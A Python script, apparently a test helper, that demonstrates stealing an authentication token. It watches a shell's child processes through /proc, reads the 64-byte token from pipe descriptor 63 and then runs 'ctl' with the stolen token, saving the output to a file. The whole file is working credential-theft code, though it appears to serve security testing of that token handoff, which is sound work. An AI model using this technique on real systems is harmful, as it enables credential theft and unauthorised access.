"""A program in a granted shell that waits for the moment in which the shell hands its token over.

    token_thief.py SHELL FILE

Each command of the shell's gets the token by a pipe, 63 in bash. Once it was caught, this program replaces
itself by ctl, and shows it; what that printed is in FILE.
"""

import os
import signal
import sys

PIPE = 63


def children(pid):
    with open(f"/proc/{pid}/task/{pid}/children") as file:
        return [int(child) for child in file.read().split()]


def caught(child):
    """What was to be read there, if it comes into sight before the child is something else."""
    while True:
        try:
            pipe = os.open(f"/proc/{child}/fd/{PIPE}", os.O_RDONLY)
        except FileNotFoundError:
            if not os.path.exists(f"/proc/{child}/fd"):
                return b""
        except (PermissionError, ProcessLookupError):
            return b""
        else:
            token = os.read(pipe, 4096)
            os.close(pipe)
            return token


def main(shell, file):
    signal.alarm(100)  # the test that started it may have failed
    before = set(children(shell))
    while True:
        new = [child for child in children(shell) if child not in before]
        token = caught(new[0]) if new else b""
        before.update(new)
        if len(token) == 64:
            break
    token_in, token_out = os.pipe()
    os.write(token_out, token)
    os.close(token_out)
    os.set_inheritable(token_in, True)
    os.dup2(os.open(file, os.O_WRONLY | os.O_CREAT, 0o600), 1)
    os.execvp("ctl", ["ctl", "--token-fd", str(token_in), "get", "a"])


main(int(sys.argv[1]), sys.argv[2])
